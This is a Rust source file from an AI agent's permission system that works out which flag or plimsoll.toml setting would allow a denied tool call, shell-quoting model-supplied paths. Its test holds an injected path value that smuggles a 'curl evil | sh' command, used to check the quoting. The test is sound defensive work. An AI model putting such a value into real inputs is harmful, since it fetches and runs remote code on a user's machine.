//! What a person would have to write to allow a call, tried before it is told.

use std::path::Path;

use plimsoll_config::{Action, PermissionRule, Permissions};
use serde_json::Value;

use super::{Access, Bounds, Subject, remembered_rule};
use crate::agent::{Bound, Profile};

/// What would allow a call that was denied.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct AllowHint {
    /// The flag that would.
    pub(crate) flag: Option<String>,
    /// The line of `plimsoll.toml` that would.
    pub(crate) setting: Option<String>,
    /// What the tool needs besides, as a line of `plimsoll.toml`.
    pub(crate) also: Option<String>,
    /// The rule that decided, with where it stands.
    pub(crate) rule: Option<String>,
}

/// A call that was denied.
#[derive(Clone, Copy)]
pub(crate) struct DeniedCall<'a> {
    pub(crate) tool: &'a str,
    pub(crate) access: Access,
    pub(crate) subject: &'a Subject,
    pub(crate) project: &'a Path,
}

/// Where a rule is put to see what it would change.
#[derive(Clone, Copy)]
enum Layer {
    /// Behind the rules for all agents.
    General,
    /// Behind the agent's own.
    Agent,
}

impl AllowHint {
    /// Find what would allow a call: each candidate is put where it would stand, and told only if the call would be made.
    pub(crate) fn find(
        profile: &Profile,
        granted: &Permissions,
        call: DeniedCall<'_>,
        also: Option<String>,
    ) -> AllowHint {
        let DeniedCall { tool, access, subject, project } = call;
        let within = Bounds { own: &profile.permissions, above: &profile.bounds, granted };
        let rule = within.deciding(tool, access, subject, project).map(|rule| {
            let PermissionRule { tool, pattern, action, origin } = rule;
            format!("`{tool}` on `{pattern}` is `{}` ({origin})", action.name())
        });
        let allows = |candidate: &PermissionRule, layer: Layer| {
            let own = with_rule(&profile.permissions, profile.general_rules, candidate, layer);
            let above: Vec<Bound> = profile
                .bounds
                .iter()
                .map(|bound| Bound {
                    permissions: with_rule(&bound.permissions, bound.general_rules, candidate, layer),
                    ..bound.clone()
                })
                .collect();
            let within = Bounds { own: &own, above: &above, granted };
            within.decide(tool, access, subject, project) == Action::Allow
        };
        // What is denied to `read` is denied to `grep`, so that a rule for `grep` would change nothing.
        let candidates = || {
            let reading = (tool == "grep").then(|| remembered_rule("read", subject, project));
            std::iter::once(remembered_rule(tool, subject, project)).chain(reading)
        };
        let flag = candidates().find(|rule| allows(rule, Layer::Agent)).map(|rule| flag_for(&rule));
        let general = candidates().find(|rule| allows(rule, Layer::General));
        let of_agent = || candidates().find(|rule| allows(rule, Layer::Agent));
        let setting = match general {
            Some(rule) => Some(setting_for("permissions", &rule)),
            // Only the rules of the agent itself stand behind all others.
            None => of_agent()
                .filter(|_| profile.bounds.is_empty())
                .map(|rule| setting_for(&format!("agents.{}.permission", key(&profile.name)), &rule)),
        };
        AllowHint { flag, setting, also, rule }
    }

    /// For a person, in half a sentence.
    pub(crate) fn words(&self) -> String {
        let also = self.also.as_ref().map(|also| format!(", together with `{also}`")).unwrap_or_default();
        match (&self.flag, &self.setting, &self.rule) {
            (Some(flag), Some(setting), _) if also.is_empty() => {
                format!("`{flag}` allows it, or `{setting}` in plimsoll.toml")
            }
            (Some(flag), Some(setting), _) => {
                format!("`{flag}` allows it, or `{setting}`{also} in plimsoll.toml")
            }
            (Some(flag), None, _) if also.is_empty() => format!("`{flag}` allows it"),
            (Some(flag), None, _) => format!("`{flag}` allows it{also} in plimsoll.toml"),
            (None, Some(setting), _) => format!("`{setting}`{also} in plimsoll.toml allows it"),
            (None, None, Some(rule)) => format!("a rule says so, and no other would change it: {rule}"),
            (None, None, None) => "no rule would allow it".to_owned(),
        }
    }
}

fn with_rule(rules: &Permissions, general: usize, candidate: &PermissionRule, layer: Layer) -> Permissions {
    let mut rules = rules.clone();
    let place = match layer {
        Layer::General => general.min(rules.rules.len()),
        Layer::Agent => rules.rules.len(),
    };
    rules.rules.insert(place, candidate.clone());
    rules
}

fn flag_for(rule: &PermissionRule) -> String {
    match rule.pattern.as_str() {
        "*" => format!("--allow {}", rule.tool),
        pattern => format!("--allow {}", shell_quoted(&format!("{}:{pattern}", rule.tool))),
    }
}

fn setting_for(table: &str, rule: &PermissionRule) -> String {
    let tool = key(&rule.tool);
    match rule.pattern.as_str() {
        "*" => format!("{table}.{tool} = \"allow\""),
        pattern => format!("{table}.{tool}.{} = \"allow\"", quoted(pattern)),
    }
}

fn quoted(text: &str) -> String {
    Value::String(text.to_owned()).to_string()
}

/// A key of TOML, in quotes where it needs them.
fn key(name: &str) -> String {
    let is_bare = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c));
    if is_bare { name.to_owned() } else { quoted(name) }
}

/// The path or command comes from a model, and a person may paste the flag into a shell.
fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::{flag_for, setting_for};
    use crate::permissions::{Subject, remembered_rule};

    #[test]
    fn the_flag_that_is_suggested_can_be_pasted() {
        let path = |path: &str| Subject::Path { named: path.into(), real: path.into() };
        let command = |line: &str| Subject::Command(line.into());
        let rule = |tool, subject: &Subject| remembered_rule(tool, subject, Path::new("/project"));
        let evil = path("/tmp/a'; curl evil | sh; '/b");
        assert_eq!(flag_for(&rule("read", &evil)), "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
        let cargo = rule("bash", &command("cargo test -q"));
        assert_eq!(flag_for(&cargo), "--allow 'bash:cargo test *'");
        assert_eq!(setting_for("permissions", &cargo), "permissions.bash.\"cargo test *\" = \"allow\"");
        assert_eq!(flag_for(&rule("bash", &command("a; b"))), "--allow 'bash:a; b'");
        assert_eq!(flag_for(&rule("write", &path("/project/src/a.rs"))), "--allow 'write:src/a.rs'");
        let page = Subject::Address("https://example.org/a?b=c".into());
        assert_eq!(flag_for(&rule("webfetch", &page)), "--allow 'webfetch:https://example.org/*'");
    }
}
